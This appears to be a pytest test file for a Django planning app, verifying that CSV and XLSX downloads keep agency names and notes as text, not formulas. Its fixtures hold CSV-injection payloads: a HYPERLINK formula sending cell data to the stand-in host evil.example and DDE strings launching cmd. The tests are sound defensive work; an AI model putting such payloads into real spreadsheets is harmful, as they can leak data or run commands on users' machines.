"""Downloads never hand a spreadsheet a formula (CSV/formula injection).

Agency names and result notes come from uploaded files, so they may start with ``=``, ``+``,
``-`` or ``@``. In a CSV download such a text cell gets a leading ``'``; in an XLSX download it
is a string cell (never a formula), with its text unchanged.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from plans.models import Agency, Result

FORMULA_STARTS = ("=", "+", "-", "@")
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+1 Sở Tài chính",
    "-2+3 Sở Xây dựng",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
HOSTILE_NOTES = ["=1+1", "+cmd|' /C calc'!A0", "-1+2", '@HYPERLINK("http://evil.example")']


@pytest.fixture
def formulas(world, agencies_a, indicator, officer_a):
    """Province A's department tier with four agencies named and noted like formulas."""
    for number, (name, note) in enumerate(zip(HOSTILE_NAMES, HOSTILE_NOTES, strict=True)):
        agency = Agency.objects.create(
            province=world.province, code=f"91-F{number}", name=name, tier="department",
            parent=agencies_a["91-UBND"],
        )
        Result.objects.create(
            year=2017, agency=agency, indicator=indicator("OFFICIAL_EMAIL"),
            numerator=number, denominator=10, note=note, updated_by=officer_a,
        )
    return world


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(content: bytes) -> list:
    # Not read-only: a loaded cell keeps its data type ("f" for a formula).
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(content: bytes) -> list[str]:
    """Assert that no cell of the workbook is a formula; return the text of its cells."""
    cells = xlsx_cells(content)
    formulas = [f"{cell.coordinate}={cell.value!r}" for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def test_the_progress_workbook_holds_hostile_names_and_notes_as_text(
    client, formulas, leader_a
):
    client.force_login(leader_a)
    response = client.get(reverse("plans:dashboard_xlsx", args=["91", 2017]))
    assert response.status_code == 200
    texts = assert_no_formula_in_xlsx(response.content)
    for text in HOSTILE_NAMES + HOSTILE_NOTES:
        assert text in texts, f"{text!r} is not in the workbook as text"


def test_progress_csv_has_no_cell_a_spreadsheet_reads_as_a_formula(client, formulas, leader_a):
    client.force_login(leader_a)
    response = client.get(reverse("plans:dashboard_csv", args=["91", 2017]))
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert "OFFICIAL_EMAIL" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_the_csv_template_prefixes_hostile_notes_so_they_stay_text(
    client, formulas, officer_a
):
    client.force_login(officer_a)
    response = client.get(reverse("plans:entry_template", args=["91", 2017, "csv"]))
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for note in HOSTILE_NOTES:
        assert "'" + note in cells


def test_the_xlsx_template_holds_hostile_notes_as_text_unchanged(client, formulas, officer_a):
    client.force_login(officer_a)
    response = client.get(reverse("plans:entry_template", args=["91", 2017, "xlsx"]))
    assert response.status_code == 200
    texts = assert_no_formula_in_xlsx(response.content)
    for note in HOSTILE_NOTES:
        assert note in texts
